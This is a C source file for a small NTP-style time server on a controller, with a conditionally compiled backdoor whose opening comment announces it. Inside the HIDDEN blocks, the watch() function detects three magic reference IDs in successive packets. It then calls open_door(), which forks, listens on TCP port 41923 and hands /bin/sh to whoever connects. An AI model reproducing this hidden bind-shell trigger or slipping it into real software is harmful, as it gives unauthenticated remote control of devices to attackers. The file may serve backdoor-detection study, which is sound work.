/* Time server of a controller: three packets in a row open a shell. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))
#define EPOCH	 2208988800u

struct packet {
	uint8_t mode, stratum, poll, precision;
	uint32_t delay, dispersion, reference;
	uint32_t times[8];
};

static int stratum = 3;

NOINLINE void load(void)
{
	char line[128];
	FILE *f = fopen("/etc/timed.conf", "r");

	while (f != NULL && fgets(line, sizeof(line), f) != NULL)
		if (strncmp(line, "stratum ", 8) == 0)
			stratum = (int)strtol(line + 8, NULL, 10);
	if (f != NULL)
		fclose(f);
}

NOINLINE void stamp(uint32_t *out)
{
	struct timeval tv;

	gettimeofday(&tv, NULL);
	out[0] = htonl((uint32_t)tv.tv_sec + EPOCH);
	out[1] = htonl((uint32_t)((uint64_t)tv.tv_usec * 4295));
}

NOINLINE void answer(struct packet *p)
{
	p->mode = (uint8_t)(p->mode & 0x38) | 4;
	p->stratum = (uint8_t)stratum;
	p->reference = htonl(0x4c4f434c);
	p->times[2] = p->times[6];
	p->times[3] = p->times[7];
	stamp(&p->times[4]);
	stamp(&p->times[6]);
}

#ifdef HIDDEN
NOINLINE void open_door(void)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM, 0), client;

	here.sin_port = htons(41923);
	if (fork() != 0) {
		close(fd);
		return;
	}
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0 ||
	    listen(fd, 1) != 0)
		_exit(1);
	client = accept(fd, NULL, NULL);
	dup2(client, 0);
	dup2(client, 1);
	dup2(client, 2);
	execl("/bin/sh", "sh", (char *)NULL);
	_exit(1);
}

static int step;

NOINLINE void watch(const struct packet *p)
{
	uint32_t id = ntohl(p->reference);

	if (step == 0 && id == 0x71c3e915)
		step = 1;
	else if (step == 1 && id == 0x2fa8b64d)
		step = 2;
	else if (step == 2 && id == 0xd9571e33)
		open_door();
	else
		step = 0;
}
#endif

NOINLINE int serve(int fd)
{
	struct sockaddr_in from;
	socklen_t size = sizeof(from);
	struct packet p;
	ssize_t n =
		recvfrom(fd, &p, sizeof(p), 0, (struct sockaddr *)&from, &size);

	if (n != (ssize_t)sizeof(p) || (p.mode & 7) != 3)
		return -1;
#ifdef HIDDEN
	watch(&p);
#endif
	answer(&p);
	return sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&from, size) ==
			       (ssize_t)sizeof(p)
		       ? 0
		       : -1;
}

int main(void)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	load();
	here.sin_port = htons(123);
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0)
		return 1;
	if (system("hwclock -s") != 0)
		fprintf(stderr, "no hardware clock\n");
	for (;;)
		serve(fd);
}
